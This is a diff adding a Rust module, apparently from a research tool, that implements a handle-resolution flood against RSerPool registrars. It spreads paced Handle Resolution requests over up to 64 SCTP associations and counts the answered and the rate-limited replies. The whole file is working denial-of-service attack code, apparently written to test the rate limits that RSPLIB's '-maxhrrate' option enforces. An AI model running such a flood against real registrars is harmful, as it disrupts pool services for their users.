@@ -1,0 +1,131 @@
+//! `hr-flood` (the papers' handle-resolution attack): Handle Resolutions
+//! at a rate. RSPLIB's `-maxhrrate` limits them per association and pool
+//! and answers the excess like an unknown pool (cause 9).
+
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::Arc;
+
+use anyhow::Result;
+use client_core::policy::Rng;
+use client_core::wire::{consts, AsapMessage};
+use rserpool_sctp::SctpAssociation;
+
+use super::{Act, Attack, Common, Ctx};
+use crate::bounds;
+use crate::fields;
+use crate::messages;
+use crate::net;
+use crate::output::Output;
+use crate::stop::Stop;
+
+#[derive(Clone, Debug, clap::Args)]
+pub struct Args {
+    /// Registrars' ASAP endpoints.
+    #[command(flatten)]
+    pub common: Common,
+    /// Associations to spread the resolutions over (round robin; each
+    /// connects to the targets in turn), at most 64.
+    #[arg(long, value_name = "N", default_value_t = 1)]
+    pub associations: usize,
+    /// Items asked for (RSPLIB's option 0x803f); none: the registrar's
+    /// default (3).
+    #[arg(long, value_name = "N")]
+    pub items: Option<u32>,
+}
+
+#[derive(Default)]
+struct Answers {
+    answered: AtomicU64,
+    refused: AtomicU64,
+}
+
+struct HrFlood {
+    assocs: Vec<(Arc<SctpAssociation>, std::net::SocketAddr)>,
+    message: Vec<u8>,
+}
+
+impl Attack for HrFlood {
+    async fn act(&mut self, seq: u64, _rng: &mut Rng, _out: &Output) -> Result<Act> {
+        let k = (seq % self.assocs.len() as u64) as usize;
+        let (assoc, target) = &self.assocs[k];
+        net::send_asap(assoc, &self.message).await?;
+        Ok((
+            "handle-resolution",
+            fields! {"target" => target.to_string(), "association" => k},
+        ))
+    }
+}
+
+pub async fn run(a: Args, stop: Stop) -> Result<()> {
+    let mut ctx = Ctx::new(&a.common, stop);
+    let mut notes = Vec::new();
+    let n = bounds::clamp_usize(
+        "associations",
+        a.associations,
+        bounds::MAX_ASSOCIATIONS,
+        &mut notes,
+    );
+    for note in notes {
+        ctx.out.event(
+            "clamped",
+            serde_json::json!({"what": note.what, "asked": note.asked, "used": note.used}),
+        );
+    }
+    let targets = ctx.targets.clone();
+    let Some(assocs) = ctx
+        .setup(async {
+            let mut v = Vec::new();
+            for k in 0..n {
+                let t = targets[k % targets.len()];
+                v.push((Arc::new(net::connect(None, t).await?), t));
+            }
+            Ok(v)
+        })
+        .await
+    else {
+        return Ok(());
+    };
+    let answers = Arc::new(Answers::default());
+    let readers: Vec<_> = assocs
+        .iter()
+        .map(|(assoc, _)| {
+            let (assoc, answers) = (assoc.clone(), answers.clone());
+            tokio::spawn(async move {
+                while let Ok(m) = net::recv_asap(&assoc).await {
+                    if let AsapMessage::HandleResolutionResponse(r) = m {
+                        let refused = r.error.as_ref().is_some_and(|e| {
+                            e.causes
+                                .iter()
+                                .any(|c| c.code.0 == consts::cause_code::UNKNOWN_POOL_HANDLE)
+                        });
+                        let counter = if refused {
+                            &answers.refused
+                        } else {
+                            &answers.answered
+                        };
+                        counter.fetch_add(1, Ordering::Relaxed);
+                    }
+                }
+            })
+        })
+        .collect();
+    let mut attack = HrFlood {
+        assocs,
+        message: messages::handle_resolution(&ctx.pool, a.items),
+    };
+    let f = super::run_paced(&mut attack, &mut ctx, false).await;
+    // Answers still in flight.
+    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+    for r in readers {
+        r.abort();
+    }
+    super::done(
+        &ctx,
+        f,
+        fields! {
+            "answered" => answers.answered.load(Ordering::Relaxed),
+            "refused" => answers.refused.load(Ordering::Relaxed),
+        },
+    );
+    Ok(())
+}
